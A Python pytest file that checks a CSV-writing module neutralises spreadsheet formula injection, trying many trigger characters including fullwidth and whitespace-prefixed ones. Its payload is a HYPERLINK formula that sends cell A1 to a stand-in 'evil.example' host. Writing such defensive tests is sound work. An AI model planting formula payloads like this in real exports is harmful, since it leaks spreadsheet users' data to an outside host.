"""Sheets for people: no text becomes a formula in any spreadsheet program."""

import csv
from pathlib import Path

import pytest

from stages.commands import sheet


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u3000＝", "\ufeff="])
def test_text_like_a_formula_stays_text(tmp_path: Path, sign: str) -> None:
    text = sign + 'HYPERLINK("https://evil.example?"&A1,"open")'
    sheet.write(tmp_path / "a.csv", ["row", "text"], [[1, text]])
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row == {"row": "1", "text": f"'{text}"}


@pytest.mark.parametrize("text", ["5 = 2 + 3", "a-b", "me@example.org", " text", "", "你好"])
def test_other_text_stays_as_it_is(tmp_path: Path, text: str) -> None:
    sheet.write(tmp_path / "a.csv", ["row", "text"], [[-1, text]])
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.DictReader(file)) == [{"row": "-1", "text": text}]
